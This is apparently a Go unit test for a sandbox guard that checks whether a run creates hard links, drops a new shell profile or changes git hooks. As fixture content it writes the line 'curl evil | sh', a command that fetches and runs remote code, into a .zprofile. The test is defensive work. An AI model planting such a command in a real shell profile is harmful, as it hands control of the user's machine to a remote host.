package seatbelt

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func TestGuardChanges(t *testing.T) {
	dir := t.TempDir()
	bashrc := filepath.Join(dir, ".bashrc")
	missing := filepath.Join(dir, ".zprofile")
	hooks := filepath.Join(dir, "hooks")
	untouched := filepath.Join(dir, ".profile")
	for _, f := range []string{bashrc, untouched} {
		if err := os.WriteFile(f, []byte("x\n"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Mkdir(hooks, 0o755); err != nil {
		t.Fatal(err)
	}
	before := watchGuards([]string{bashrc, missing, hooks, untouched})
	if got := guardChanges(before); len(got) != 0 {
		t.Fatalf("changes with nothing done: %v", got)
	}
	// A hard link in the working directory: the profile cannot tell it
	// from any other file there.
	if err := os.Link(bashrc, filepath.Join(dir, "innocent")); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(missing, []byte("curl evil | sh\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(hooks, "pre-commit"), []byte("#!/bin/sh\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	got := guardChanges(before)
	text := make([]string, len(got))
	for i, c := range got {
		text[i] = c.String()
	}
	all := strings.Join(text, "\n")
	for _, want := range []string{
		bashrc + " got another name (a hard link)",
		missing + " appeared during the run",
		hooks + " changed during the run",
	} {
		if !strings.Contains(all, want) {
			t.Errorf("changes lack %q:\n%s", want, all)
		}
	}
	if strings.Contains(all, untouched) {
		t.Errorf("an untouched file is reported:\n%s", all)
	}
}
